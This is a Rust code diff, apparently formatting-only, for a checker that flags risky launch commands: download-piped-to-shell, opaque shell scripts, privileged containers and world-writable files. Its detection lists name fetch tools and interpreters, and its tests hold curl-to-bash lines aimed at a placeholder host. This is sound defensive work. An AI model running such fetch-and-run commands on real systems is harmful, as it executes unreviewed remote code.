@@ -14,20 +14,40 @@ pub(super) fn judge(launch: &Launch, home: &Path) -> Vec<(Verdict, Finding)> {
     let Launch::Command { program, args, cwd, .. } = launch else {
         return Vec::new();
     };
-    let words: Vec<String> = std::iter::once(program.to_string_lossy().into_owned()).chain(args.iter().cloned()).collect();
+    let words: Vec<String> = std::iter::once(program.to_string_lossy().into_owned())
+        .chain(args.iter().cloned())
+        .collect();
     let line = words.join(" ");
     let mut found = Vec::new();
     if is_download(&line) {
         let mend = "Download it, read it, and start the file.";
-        found.push(finding("launch-download", Severity::High, Verdict::Review, &line, "It runs what an address answers at that moment, unseen.", mend));
+        found.push(finding(
+            "launch-download",
+            Severity::High,
+            Verdict::Review,
+            &line,
+            "It runs what an address answers at that moment, unseen.",
+            mend,
+        ));
     } else if is_shell(&words) && matches!(what_runs(launch)[0], Subject::Unknown { .. }) {
         let mend = "Name the program and its arguments, without a shell.";
-        found.push(finding("launch-shell", Severity::Low, Verdict::Review, &line, "A shell runs a script, so what will run can't be told.", mend));
+        found.push(finding(
+            "launch-shell",
+            Severity::Low,
+            Verdict::Review,
+            &line,
+            "A shell runs a script, so what will run can't be told.",
+            mend,
+        ));
     }
     let subjects = what_runs(launch);
     if subjects.iter().any(|subject| matches!(subject, Subject::Image(_))) {
         found.extend(container_risks(args, &home.to_string_lossy()).into_iter().map(|risk| {
-            let (severity, verdict) = if risk.is_grave { (Severity::High, Verdict::Review) } else { (Severity::Low, Verdict::Pass) };
+            let (severity, verdict) = if risk.is_grave {
+                (Severity::High, Verdict::Review)
+            } else {
+                (Severity::Low, Verdict::Pass)
+            };
             let mut finding = finding(risk.id, severity, verdict, &line, "", risk.mend);
             finding.1.why = risk.what.into();
             finding
@@ -40,12 +60,26 @@ pub(super) fn judge(launch: &Launch, home: &Path) -> Vec<(Verdict, Finding)> {
     found.extend(files.filter(|file| is_open_to_all(file)).map(|file| {
         let mend = "Take the right away: `chmod o-w`, on its folder too.";
         let shown = file.display().to_string();
-        finding("launch-world-writable", Severity::High, Verdict::Review, &shown, "Any user of this machine may change what it runs.", mend)
+        finding(
+            "launch-world-writable",
+            Severity::High,
+            Verdict::Review,
+            &shown,
+            "Any user of this machine may change what it runs.",
+            mend,
+        )
     }));
     found
 }
 
-fn finding(id: &'static str, severity: Severity, verdict: Verdict, shown: &str, why: &'static str, mend: &'static str) -> (Verdict, Finding) {
+fn finding(
+    id: &'static str,
+    severity: Severity,
+    verdict: Verdict,
+    shown: &str,
+    why: &'static str,
+    mend: &'static str,
+) -> (Verdict, Finding) {
     let finding = Finding {
         pointer: "/args".into(),
         why: why.into(),
@@ -57,14 +91,20 @@ fn finding(id: &'static str, severity: Severity, verdict: Verdict, shown: &str, 
 
 /// Whether a line pipes what it downloads into an interpreter.
 fn is_download(line: &str) -> bool {
-    let fetches = |part: &str| part.split_whitespace().any(|word| ["curl", "wget", "iwr", "irm", "Invoke-WebRequest"].contains(&word));
+    let fetches = |part: &str| {
+        part.split_whitespace()
+            .any(|word| ["curl", "wget", "iwr", "irm", "Invoke-WebRequest"].contains(&word))
+    };
     let runs = |part: &str| {
         let word = part.split_whitespace().find(|word| *word != "sudo").unwrap_or_default();
-        ["sh", "bash", "zsh", "python", "python3", "node", "iex", "perl"].contains(&word.rsplit('/').next().unwrap_or_default())
+        ["sh", "bash", "zsh", "python", "python3", "node", "iex", "perl"]
+            .contains(&word.rsplit('/').next().unwrap_or_default())
     };
     let parts: Vec<&str> = line.split('|').collect();
     let piped = parts.windows(2).any(|pair| fetches(pair[0]) && runs(pair[1]));
-    let substituted = ["$(curl", "$(wget", "<(curl", "<(wget", "`curl", "`wget"].iter().any(|start| line.contains(start));
+    let substituted = ["$(curl", "$(wget", "<(curl", "<(wget", "`curl", "`wget"]
+        .iter()
+        .any(|start| line.contains(start));
     piped || substituted
 }
 
@@ -102,13 +142,22 @@ mod tests {
             env: Vec::new(),
             cwd: "/".into(),
         };
-        judge(&launch, Path::new("/home/ada")).into_iter().map(|(_, finding)| finding.id.into_owned()).collect()
+        judge(&launch, Path::new("/home/ada"))
+            .into_iter()
+            .map(|(_, finding)| finding.id.into_owned())
+            .collect()
     }
 
     #[test]
     fn what_can_not_be_told_is_named() {
-        assert_eq!(ids(&["bash", "-c", "curl -fsSL https://h.example/i | sudo bash"]), ["launch-download"]);
-        assert_eq!(ids(&["sh", "-c", "bash <(curl -s https://h.example/i)"]), ["launch-download"]);
+        assert_eq!(
+            ids(&["bash", "-c", "curl -fsSL https://h.example/i | sudo bash"]),
+            ["launch-download"]
+        );
+        assert_eq!(
+            ids(&["sh", "-c", "bash <(curl -s https://h.example/i)"]),
+            ["launch-download"]
+        );
         assert_eq!(ids(&["sh", "-c", "cd /x && ./run"]), ["launch-shell"]);
         assert_eq!(ids(&["docker", "run", "--privileged", "i"]), ["container-privileged"]);
         assert_eq!(ids(&["sh", "-c", "npx -y some-server"]), [""; 0]);
